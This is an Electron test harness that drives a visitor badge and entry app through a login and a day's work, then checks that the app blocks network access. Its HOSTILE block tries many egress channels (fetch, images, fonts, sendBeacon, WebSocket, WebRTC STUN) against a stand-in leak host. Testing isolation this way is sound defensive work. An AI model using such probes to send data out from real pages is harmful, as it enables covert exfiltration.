// @ts-check
'use strict';
// The main file of a small app that starts the real program and does a day's work in its window from within, because a
// debugger's connection would itself be a use of the network. What came of it is written to a file.
const { app } = require('electron');
const { writeFileSync } = require('node:fs');
const net = require('node:net');

const { main, report, identifier, password, planted } = JSON.parse(process.env.SUIMON_DRIVE ?? '{}');

/** Runs in the page: resolves once there is such an element. @param {string} selector */
const whenThere = (selector) => `new Promise((resolve) => {
  const there = () => document.querySelector(${JSON.stringify(selector)}) !== null && (watch.disconnect(), resolve(true));
  const watch = new MutationObserver(there);
  watch.observe(document, { childList: true, subtree: true });
  there();
})`;

/** The work of a visit and a verification, over the bridge as the pages do it. */
const WORK = `(async () => {
  const value = (reply) => { if (!reply.ok) throw new Error(JSON.stringify(reply.refusal)); return reply.value; };
  const { entries, trail } = window.suimon;
  const area = value(await entries.areas({})).find(({ level }) => level === 3);
  const badge = value(await entries.badges({})).find(({ level, state }) => level === 3 && state === 'free');
  const { ids: [id] } = value(await entries.enter({
    visitId: null, badgeId: badge.id, followIn: 'nobody', party: [], expectedUntil: null, enteredAt: null, lateReason: '',
    anotherPerson: false,
    details: { kind: 'visitor', name: '網野 無線', reading: '', organisation: '', purpose: '点検', host: '黒田', escort: '赤城',
      identity: 'employee-card', areaId: area.id, belongings: '', workReference: '', note: '' },
  }));
  const inside = value(await entries.board({})).inside.some((row) => row.id === id);
  value(await entries.leave({ visits: [{ visitId: id, badgeReturned: true, exitedAt: null, lateReason: '' }] }));
  const verified = value(await trail.verify({})).state;
  return { inside, verified };
})()`;

/** Whatever a hostile page could try in order to reach somebody. */
const HOSTILE = `(async () => {
  const tried = [];
  const host = 'suimon-leak.example';
  const attempt = async (name, work) => {
    try { await work(); tried.push(name + ' went through'); } catch { tried.push(name + ' refused'); }
  };
  const add = (name, attributes) => new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(name), attributes);
    element.addEventListener('load', resolve);
    element.addEventListener('error', reject);
    document.head.append(element);
    if (!('onload' in element) || attributes.rel?.startsWith('dns') || attributes.rel?.startsWith('pre')) reject(new Error('no event'));
  });
  for (const base of ['https://' + host, 'http://192.0.2.1', 'http://127.0.0.1:9', 'http://[2001:db8::1]']) {
    await attempt('fetch', () => fetch(base + '/', { mode: 'no-cors' }));
    await attempt('image', () => add('img', { src: base + '/a.png' }));
    await attempt('style', () => add('link', { rel: 'stylesheet', href: base + '/a.css' }));
    await attempt('font', () => new FontFace('x', 'url(' + base + '/a.woff2)').load());
    await attempt('dns-prefetch', () => add('link', { rel: 'dns-prefetch', href: base }));
    await attempt('preconnect', () => add('link', { rel: 'preconnect', href: base }));
    navigator.sendBeacon(base + '/b', 'x'); // answers true though the policy blocks it: the trace tells
    await attempt('events', () => new Promise((_, reject) => { new EventSource(base + '/e').onerror = reject; }));
    await attempt('socket', () => new Promise((resolve, reject) => {
      const socket = new WebSocket(base.replace('http', 'ws'));
      socket.onopen = resolve; socket.onerror = reject;
    }));
  }
  await attempt('webrtc', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + '192.0.2.1:3478' }, { urls: 'stun:' + host }] });
    const found = [];
    peer.onicecandidate = ({ candidate }) => candidate !== null && found.push(candidate.candidate);
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    if (peer.iceGatheringState !== 'complete')
      await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); });
    peer.close();
    if (found.length === 0) throw new Error('no candidate');
  });
  return tried;
})()`;

/** @param {Electron.WebContents} page */
async function day(page) {
  await page.executeJavaScript(whenThere('#identifier'));
  page.focus();
  await page.insertText(identifier);
  await page.executeJavaScript("document.querySelector('#password').focus()");
  await page.insertText(password);
  for (const type of /** @type {const} */ (['keyDown', 'char', 'keyUp']))
    page.sendInputEvent({ type, keyCode: type === 'char' ? '\r' : 'Return' });
  await page.executeJavaScript(whenThere('[role="timer"]'));
  const work = await page.executeJavaScript(WORK);
  // As the sheets do it: libcups would look for its server by TCP where it finds no socket.
  const printers = Array.isArray(await page.getPrintersAsync());
  const pdf = (await page.printToPDF({})).subarray(0, 5).toString();
  const tried = await page.executeJavaScript(HOSTILE);
  if (planted) await new Promise((resolve) => net.connect(9, '127.0.0.1').once('error', resolve));
  return { work, sheets: { printers, pdf }, tried };
}

app.once('web-contents-created', (_event, page) => {
  page.once('did-finish-load', () => {
    void day(page)
      .then(
        (done) => ({ done }),
        (error) => ({ error: String(error) }),
      )
      .then((outcome) => {
        writeFileSync(report, JSON.stringify(outcome));
        app.quit();
      });
  });
});
require(main);
